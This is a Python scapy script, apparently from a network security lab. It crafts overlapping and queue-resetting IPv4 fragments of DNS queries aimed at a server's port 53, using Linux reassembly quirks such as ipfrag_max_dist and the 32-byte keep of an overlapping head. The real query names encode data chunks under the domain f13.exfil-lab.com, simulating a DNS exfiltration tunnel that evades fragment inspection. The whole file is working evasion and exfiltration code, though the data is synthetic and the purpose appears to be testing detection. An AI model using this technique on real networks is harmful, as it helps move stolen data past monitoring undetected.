#!/usr/bin/python3
"""frag_linux_tunnel.py SERVER - frag_linux.py's two tricks as a tunnel would
use them (IPv4 fragments to SERVER:53; scapy, raw IP from the lab's client;
/usr/bin/python3 for scapy), each with its own IP id, port and DNS id:
  - 16 queries whose head comes in a fragment of 37 bytes with more to come
    (Linux keeps its first 32), the rest from byte 32 on;
  - 16 rounds of: a decoy query's head (the same www-style name every
    round), 32 filler datagrams of two fragments each to a closed port of
    the same host (64 fragments: ipfrag_max_dist), the real query's head
    (Linux starts the decoy's queue over with it), the shared tail.
The real names carry data (32 distinct names under f13.exfil-lab.com)."""
import base64, hashlib, os, sys, time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..", "review20", "dns"))
from frag import udp_bytes, frag  # noqa: E402  (review20's builders)
from scapy.all import IP, UDP, Raw, send  # noqa: E402

ROUNDS = 16
TAIL = "gezdgnbvgy3tqojq00.f13.exfil-lab.com"


def chunk(i):
    data = hashlib.sha256(b"secret chunk %d" % i).digest()[:13]
    return base64.b32encode(data).decode().lower()[:20]


def filler(server, ipid):
    """A whole datagram to UDP port 9 (closed) in two fragments."""
    u = bytes(IP(bytes(IP(src="10.53.3.10", dst=server) / UDP(sport=9, dport=9) / Raw(b"f" * 8)))[UDP])
    return [frag(server, ipid, 0, u[:8], True), frag(server, ipid, 8, u[8:], False)]


def main():
    server = sys.argv[1]
    for i in range(ROUNDS):
        u = udp_bytes(server, chunk(i) + TAIL, 42000 + i, 0x6400 + i)
        send(frag(server, 0x7400 + i, 0, u[:37], True))
        time.sleep(0.02)
        send(frag(server, 0x7400 + i, 32, u[32:], False))
        time.sleep(0.1)
    for i in range(ROUNDS):
        sport, dnsid, ipid = 43000 + i, 0x6500 + i, 0x7500 + i
        decoy = udp_bytes(server, "w" * 20 + TAIL, sport, dnsid)
        real = udp_bytes(server, chunk(100 + i) + TAIL, sport, dnsid)
        send(frag(server, ipid, 0, decoy[:56], True))
        pkts = []
        for k in range(32):
            pkts += filler(server, 0x7600 + 32 * i + k)
        send(pkts, inter=0.002)
        send(frag(server, ipid, 0, real[:56], True))
        time.sleep(0.02)
        send(frag(server, ipid, 56, real[56:], False))
        time.sleep(0.1)


if __name__ == "__main__":
    main()
